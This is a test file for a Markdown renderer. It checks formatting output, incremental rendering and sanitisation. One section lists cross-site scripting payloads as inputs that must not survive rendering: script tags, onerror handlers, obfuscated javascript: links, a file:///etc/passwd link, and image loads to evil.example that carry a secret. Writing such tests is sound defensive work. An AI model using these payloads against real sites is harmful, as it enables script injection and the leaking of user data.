import fc from "fast-check";
import { describe, expect, it } from "vitest";

import { createGrowingRender, renderBlocks } from "../../../src/adapters/playground/render.ts";

const html = (text: string): string => renderBlocks(text).join("");

/** Everything the renderer may ever put out; whatever else looks like a tag would be a hole. */
const allowed =
  /<\/?(?:p|h[3-6]|strong|em|del|code|pre|ul|ol|li|div|span|table|thead|tbody|tr|blockquote|figure|figcaption)(?: (?:class="[a-z ]+"|start="\d+"|role="(?:img|region)"|aria-label="(?:Done|To do|Table)"|tabindex="0"))*>|<(?:br|hr)>|<t[hd](?: class="(?:left|right|center)")?>|<\/t[hd]>|<a href="(?:https?:|mailto:)[^"<>]*" target="_blank" rel="noopener noreferrer">|<\/a>/g;

const holes = (rendered: string): string | undefined => /[<>]/.exec(rendered.replaceAll(allowed, ""))?.[0];

describe("Markdown becomes HTML", () => {
  it.each([
    ["bold, italic, struck", "**a** *b* ~~c~~", "<p><strong>a</strong> <em>b</em> <del>c</del></p>"],
    ["a heading below the page's own", "# Title", "<h3>Title</h3>"],
    [
      "code with its language",
      "```ts\nlet a = 1 < 2;\n```",
      '<figure class="code"><figcaption>ts</figcaption><pre tabindex="0"><code>let a = 1 &lt; 2;</code></pre></figure>',
    ],
    ["inline code", "`<b>`", "<p><code>&lt;b&gt;</code></p>"],
    ["a numbered list that starts elsewhere", "3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'],
    [
      "a task list",
      "- [x] a\n- [ ] b",
      '<ul><li class="task"><span class="box done" role="img" aria-label="Done"></span><div>a</div></li><li class="task"><span class="box" role="img" aria-label="To do"></span><div>b</div></li></ul>',
    ],
    ["single line breaks", "a\nb", "<p>a<br>b</p>"],
    ["a quotation", "> a", "<blockquote><p>a</p></blockquote>"],
    [
      "a web link",
      "[a](https://example.org/?a=1&b=2)",
      '<p><a href="https://example.org/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">a</a></p>',
    ],
    [
      "a mail link",
      "[a](mailto:a@example.org)",
      '<p><a href="mailto:a@example.org" target="_blank" rel="noopener noreferrer">a</a></p>',
    ],
    ["entities as their character", "a &lt; b &amp; c", "<p>a &lt; b &amp; c</p>"],
    ["a mention", "@Parley hi", '<p><span class="mention">@Parley</span> hi</p>'],
    [
      "no mention in an address",
      "x@parley.org",
      '<p><a href="mailto:x@parley.org" target="_blank" rel="noopener noreferrer">x@parley.org</a></p>',
    ],
  ])("%s", (_what, text, rendered) => {
    expect(html(text)).toBe(rendered);
  });

  it("a table keeps its alignment", () => {
    expect(html("| a | b |\n|---|--:|\n| 1 | 2 |")).toContain('<tr><td>1</td><td class="right">2</td></tr>');
  });
});

describe("nothing that a message says becomes markup, script or a request", () => {
  it.each([
    ["a script", "<script>alert(1)</script>"],
    ["an image tag with a handler", "<img src=x onerror=alert(1)>"],
    ["a tag inside a paragraph", "hello <b onmouseover=alert(1)>you</b>"],
    ["a style tag", "<style>*{display:none}</style>"],
    ["an iframe", '<iframe src="https://evil.example"></iframe>'],
    ["a javascript link", "[a](javascript:alert(1))"],
    ["a javascript link in mixed case", "[a](JaVaScRiPt:alert(1))"],
    ["a javascript link with a tab", "[a](java\tscript:alert(1))"],
    ["a javascript link as entities", "[a](javascript&#58;alert(1))"],
    ["a javascript link with a control character", "[a](\u0001javascript:alert(1))"],
    ["a data link", "[a](data:text/html;base64,PHNjcmlwdD4=)"],
    ["a vbscript link", "[a](vbscript:msgbox(1))"],
    ["a file link", "[a](file:///etc/passwd)"],
    ["a relative link", "[a](/api/events)"],
    ["a link without a scheme", "[a](//evil.example)"],
    ["an autolink to a script", "<javascript:alert(1)>"],
    ["a quote in an address", '[a](https://example.org/"onmouseover="alert(1))'],
    ["a quote in a title", '[a](https://example.org "x\\" onclick=alert(1) \\"")'],
    ["a reference link to a script", "[a][b]\n\n[b]: javascript:alert(1)"],
    ["an image that would load", "![a](https://evil.example/?q=secret)"],
    ["an image inside a link", "[![a](https://evil.example/x.png)](https://evil.example)"],
    ["an image by reference", "![a][b]\n\n[b]: https://evil.example/x.png"],
    ["a data image", "![a](data:image/svg+xml;base64,PHN2Zz4=)"],
    ["a language that breaks out", '```"><script>alert(1)</script>\ncode\n```'],
    ["markup in a table", "| <b>a</b> |\n|---|\n| <img src=x onerror=alert(1)> |"],
    ["markup in a heading", "# <img src=x onerror=alert(1)>"],
    ["markup in an image's name", '![" onerror="alert(1)](https://example.org)'],
    ["a comment", "<!-- <script>alert(1)</script> -->"],
    ["an unfinished tag", "<img src=x onerror=alert(1) "],
    ["an svg", "<svg><animate onbegin=alert(1) attributeName=x></svg>"],
    ["mathematics", "<math><mtext></table><img src=x onerror=alert(1)></math>"],
  ])("%s", (_what, text) => {
    for (const rendered of [html(text), createGrowingRender().update(text).blocks.join("")]) {
      expect(holes(rendered)).toBeUndefined();
      expect(rendered).not.toMatch(/<img|<script|<iframe|href="(?!https?:|mailto:)/i);
    }
  });

  it("whatever is said", () => {
    const pieces = fc.constantFrom(
      ..."<>\"'&`*_[]()!#|-:\n ~\\=/".split(""),
      "javascript:",
      "https://a.b/",
      "<script>",
      "onerror=",
      "![",
      "](",
      "```",
      "&#58;",
      "a",
      "- [x] ",
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 40 }), (parts) => {
        expect(holes(html(parts.join("")))).toBeUndefined();
        expect(holes(createGrowingRender().update(parts.join("")).blocks.join(""))).toBeUndefined();
      }),
    );
  });
});

describe("a text that grows", () => {
  const text =
    "# One\n\nA *para* with `code`.\n\n- a\n- b\n\n- c\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nconst a = `x`;\n```\n\nThe **end**.";

  it("shows at each step what applying all steps shows, and in the end what the whole text shows", () => {
    const growing = createGrowingRender();
    const page: string[] = [];
    for (let length = 1; length <= text.length; length++) {
      const { from, blocks } = growing.update(text.slice(0, length));
      page.splice(from, Infinity, ...blocks);
      expect(page).toEqual(growing.blocks);
      expect(holes(page.join(""))).toBeUndefined();
    }
    expect(page).toEqual(renderBlocks(text));
  });

  it("sends only the end again", () => {
    const growing = createGrowingRender();
    growing.update("First.\n\nSecond.\n\nThi");
    const { from, blocks } = growing.update("First.\n\nSecond.\n\nThird");
    expect(from).toBe(2);
    expect(blocks).toEqual(["<p>Third</p>"]);
  });

  it("starts over when the beginning changed", () => {
    const growing = createGrowingRender();
    growing.update("First.\n\nSecond.\n\nThird");
    expect(growing.update("Another.\n\nText")).toEqual({
      from: 0,
      blocks: ["<p>Another.</p>", "<p>Text</p>"],
    });
  });

  it.each([
    ["bold", "a **b", "<p>a <strong>b</strong></p>"],
    [
      "a fence",
      "```js\nlet a",
      '<figure class="code"><figcaption>js</figcaption><pre tabindex="0"><code>let a</code></pre></figure>',
    ],
    ["a link without its address", "see [the guide](https://exam", "<p>see the guide</p>"],
  ])("closes %s that is still open", (_what, soFar, rendered) => {
    expect(createGrowingRender().update(soFar).blocks.join("")).toBe(rendered);
  });
});

describe("text that is made to be slow or deep", () => {
  it.each([
    ["quotations in quotations", ">".repeat(11_000)],
    ["open brackets", "[".repeat(11_000)],
    ["stars", "*a".repeat(5_500)],
    ["a very long message", "**bold** ".repeat(12_000)],
  ])("%s are shown, whatever they look like", (_what, text) => {
    const rendered = html(text);
    expect(rendered.length).toBeGreaterThan(0);
    expect(holes(rendered)).toBeUndefined();
  });

  it("what is too long for Markdown is shown letter by letter", () => {
    expect(html(`**a** ${"x".repeat(100_000)}`)).toBe(`<p class="plain">**a** ${"x".repeat(100_000)}</p>`);
  });
});
